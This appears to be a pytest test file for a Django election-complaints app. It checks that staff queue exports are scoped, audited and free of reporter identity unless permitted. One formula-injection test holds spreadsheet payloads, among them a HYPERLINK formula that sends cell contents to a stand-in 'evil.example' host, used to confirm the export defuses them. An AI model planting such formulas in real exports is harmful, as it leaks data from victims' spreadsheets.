"""Staff exports of the queue: the same rows as the filtered queue, the user's scope, identity only when permitted."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import openpyxl
import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone

from complaints import services, workflow
from complaints.exports import BOM
from complaints.models import AuditEvent, Category, Complaint, Reporter
from complaints.selectors.exports import EXPORT_COLUMNS, IDENTITY_COLUMNS

pytestmark = pytest.mark.django_db

HEADER = [c.name for c in EXPORT_COLUMNS]
IDENTITY_HEADER = [c.name for c in IDENTITY_COLUMNS]


def read_csv(response: Any) -> list[dict[str, str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith(BOM), "Excel needs the UTF-8 byte order mark to read Cyrillic"
    return list(csv.DictReader(io.StringIO(body[1:])))


def queue_codes(client: Any, query: str = "") -> list[str]:
    """Every receipt code the queue page shows for ``query``, page after page."""
    codes: list[str] = []
    page = 1
    while True:
        response = client.get(f"{reverse('web-queue')}?{query}&page={page}")
        codes += [c.code for c in response.context["page"].object_list]
        if not response.context["page"].has_next():
            return codes
        page += 1


@pytest.fixture
def many(file_complaint: Any, territory: dict[str, Any], category: Category) -> list[Complaint]:
    other = Category.objects.create(code="vote_buying", name_ru="Подкуп", name_kk="Сатып алу", name_en="Vote buying")
    made = []
    for i in range(31):
        made.append(
            file_complaint(
                polling_station=territory["ps_pav"] if i % 3 else territory["ps_ala"],
                category=other if i % 4 == 0 else category,
                severity=1 + i % 4,
                occurred_at=timezone.now() - timedelta(hours=i + 1),
                description=f"Случай №{i}: директор Экибастузского завода",
            )
        )
    return made


def test_csv_rows_are_the_filtered_queue_rows_in_its_order(
    client: Any, coordinator: Any, many: list[Complaint]
) -> None:
    client.force_login(coordinator)
    query = "category=pressure.employer&severity=2"
    shown = queue_codes(client, query)
    assert 0 < len(shown) < len(many)
    response = client.get(f"{reverse('web-queue-export-csv')}?{query}")
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    rows = read_csv(response)
    assert [r["code"] for r in rows] == shown
    assert list(rows[0]) == HEADER
    assert {r["category"] for r in rows} == {"pressure.employer"}
    assert {r["severity"] for r in rows} == {"2"}


def test_unfiltered_export_holds_every_page(client: Any, coordinator: Any, many: list[Complaint]) -> None:
    client.force_login(coordinator)
    shown = queue_codes(client)
    assert len(shown) == len(many) > 25  # more than one page of the queue
    rows = read_csv(client.get(reverse("web-queue-export-csv")))
    assert [r["code"] for r in rows] == shown


def test_values_are_what_the_complaint_holds(client: Any, coordinator: Any, file_complaint: Any) -> None:
    complaint = file_complaint(description="Директор потребовал фото бюллетеня")
    client.force_login(coordinator)
    (row,) = read_csv(client.get(reverse("web-queue-export-csv")))
    complaint.refresh_from_db()
    assert row["code"] == complaint.code
    assert row["election"] == "kz-2011-presidential"
    assert row["region"] == "pav"
    assert row["district"] == "pav-ekibastuz"
    assert row["region_name"] == "Pavlodar Region"  # the reader's language (English here)
    assert row["polling_station"] == "512"
    assert row["description"] == "Директор потребовал фото бюллетеня"
    assert row["occurred_at"] == timezone.localtime(complaint.occurred_at).isoformat(timespec="seconds")
    assert row["created_at"].startswith(timezone.localdate(complaint.created_at).isoformat() + "T")
    assert row["created_at"][-6:] in ("+05:00", "+06:00")  # ISO 8601 with the offset
    assert row["channel"] == "web"


def test_scope_a_reviewer_exports_only_their_region(
    client: Any, reviewer_pav: Any, file_complaint: Any, territory: dict[str, Any]
) -> None:
    pav = file_complaint(polling_station=territory["ps_pav"])
    file_complaint(polling_station=territory["ps_ala"])
    client.force_login(reviewer_pav)
    rows = read_csv(client.get(reverse("web-queue-export-csv")))
    assert [r["code"] for r in rows] == [pav.code]
    # A region outside the scope is no choice of the form: the export holds what the page shows.
    rows = read_csv(client.get(reverse("web-queue-export-csv") + "?region=ala"))
    assert [r["code"] for r in rows] == queue_codes(client, "region=ala") == [pav.code]


def test_observers_and_strangers_get_no_export(client: Any, observer: Any, file_complaint: Any) -> None:
    file_complaint()
    response = client.get(reverse("web-queue-export-csv"))
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]
    client.force_login(observer)
    assert client.get(reverse("web-queue-export-csv")).status_code == 403
    assert client.get(reverse("web-queue-export-xlsx")).status_code == 403


def test_formula_injection_is_defused(client: Any, coordinator: Any, file_complaint: Any) -> None:
    evil = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+2 и ещё текст",
        "-3+4 и ещё текст",
        "@SUM(A1) и ещё текст",
        "\tTab и ещё текст",
        "\rCR и ещё текст",
    ]
    stored = [file_complaint(description=text, place_text=text).place_text for text in evil]
    # The text rule already trims a leading tab or CR off what is kept; the rest start with a formula sign.
    defused = sorted("'" + t if t[0] in "=+-@\t\r" else t for t in stored)
    assert sum(t[0] in "=+-@" for t in stored) >= 4
    client.force_login(coordinator)
    rows = read_csv(client.get(reverse("web-queue-export-csv")))
    assert sorted(r["description"] for r in rows) == defused
    assert sorted(r["place"] for r in rows) == defused
    book = openpyxl.load_workbook(io.BytesIO(b"".join(client.get(reverse("web-queue-export-xlsx")).streaming_content)))
    cells = [row[HEADER.index("description")] for row in book.active.iter_rows(min_row=2, values_only=True)]
    assert sorted(cells) == defused
    column = HEADER.index("description")
    assert {row[column].data_type for row in book.active.iter_rows(min_row=2)} == {"s"}  # text, never a formula


def test_xlsx_opens_and_matches_the_csv(client: Any, coordinator: Any, many: list[Complaint]) -> None:
    client.force_login(coordinator)
    query = "?category=pressure.employer"
    csv_rows = read_csv(client.get(reverse("web-queue-export-csv") + query))
    response = client.get(reverse("web-queue-export-xlsx") + query)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert isinstance(response, StreamingHttpResponse)  # FileResponse streams the spooled file
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    header, *rows = list(book["complaints"].iter_rows(values_only=True))
    assert list(header) == HEADER
    as_text = [{k: "" if v is None else str(v) for k, v in zip(header, row, strict=True)} for row in rows]
    assert as_text == csv_rows


def test_no_identity_without_the_permission(
    client: Any, reviewer_pav: Any, coordinator: Any, file_complaint: Any
) -> None:
    file_complaint(full_name="Иван Петров", email="ivan@example.org", phone="+77011234567")
    for user in (reviewer_pav, coordinator):
        client.force_login(user)
        body = b"".join(client.get(reverse("web-queue-export-csv")).streaming_content).decode()
        assert "Иван" not in body
        assert "ivan@example.org" not in body
        assert "7011234567" not in body
        assert not set(IDENTITY_HEADER) & set(body.splitlines()[0].lstrip(BOM).split(","))
    # The reviewer may not ask for it either.
    client.force_login(reviewer_pav)
    response = client.post(reverse("web-queue-export-csv"), {"purpose": "court"})
    assert response.status_code == 403
    assert not AuditEvent.objects.filter(action="identity_viewed").exists()


def test_identity_export_is_audited_per_complaint(client: Any, coordinator: Any, file_complaint: Any) -> None:
    named = file_complaint(full_name="Иван Петров", email="ivan@example.org")
    anonymous = file_complaint()
    client.force_login(coordinator)
    response = client.post(reverse("web-queue-export-csv"), {"purpose": "Court filing 12/2011"})
    assert response.status_code == 200
    rows = {r["code"]: r for r in read_csv(response)}
    assert list(next(iter(rows.values()))) == HEADER + IDENTITY_HEADER
    assert rows[named.code]["reporter_name"] == "Иван Петров"
    assert rows[named.code]["reporter_email"] == "ivan@example.org"
    assert rows[anonymous.code]["reporter_name"] == ""
    events = AuditEvent.objects.filter(action="identity_viewed")
    assert sorted(e.complaint_id for e in events) == sorted([named.pk, anonymous.pk])
    assert {e.actor_id for e in events} == {coordinator.pk}
    assert all(e.payload == {"purpose": "Court filing 12/2011", "via": "export"} for e in events)
    assert Reporter.objects.count() == 2


def test_identity_export_needs_a_purpose(client: Any, coordinator: Any, file_complaint: Any) -> None:
    file_complaint(full_name="Иван Петров")
    client.force_login(coordinator)
    response = client.post(reverse("web-queue-export-csv") + "?severity=3", {"purpose": "  "})
    assert response.status_code == 302
    assert response["Location"] == reverse("web-queue") + "?severity=3"
    assert not AuditEvent.objects.filter(action="identity_viewed").exists()


def test_identity_export_is_bounded(client: Any, coordinator: Any, file_complaint: Any, settings: Any) -> None:
    settings.EXPORT_IDENTITY_MAX_ROWS = 2
    for _ in range(3):
        file_complaint(full_name="Иван Петров")
    client.force_login(coordinator)
    response = client.post(reverse("web-queue-export-xlsx"), {"purpose": "court"})
    assert response.status_code == 302
    assert not AuditEvent.objects.filter(action="identity_viewed").exists()
    assert client.post(reverse("web-queue-export-xlsx") + "?severity=3", {"purpose": "court"}).status_code == 302


@pytest.mark.two_factor
def test_identity_export_asks_for_the_second_factor(client: Any, coordinator: Any, file_complaint: Any) -> None:
    file_complaint(full_name="Иван Петров")
    client.force_login(coordinator)
    response = client.post(reverse("web-queue-export-csv"), {"purpose": "court"})
    assert response.status_code == 302
    assert "/accounts/two-factor/" in response["Location"]
    assert not AuditEvent.objects.filter(action="identity_viewed").exists()


def test_queue_page_links_to_the_exports_with_its_filters(client: Any, coordinator: Any, many: Any) -> None:
    client.force_login(coordinator)
    html = client.get(reverse("web-queue") + "?severity=2&page=1").content.decode()
    assert 'href="/queue/export.csv?severity=2"' in html
    assert 'href="/queue/export.xlsx?severity=2"' in html
    assert 'name="purpose"' in html  # the coordinator holds the identity permission


def test_reviewer_sees_no_identity_export_form(client: Any, reviewer_pav: Any, file_complaint: Any) -> None:
    file_complaint()
    client.force_login(reviewer_pav)
    html = client.get(reverse("web-queue")).content.decode()
    assert "/queue/export.csv" in html
    assert 'name="purpose"' not in html


def test_service_refuses_identity_export_without_permission(reviewer_pav: Any, file_complaint: Any) -> None:
    complaint = file_complaint()
    with pytest.raises(workflow.NotAllowed):
        services.reporter_reveal_export(complaint_ids=[complaint.pk], actor=reviewer_pav, purpose="x")
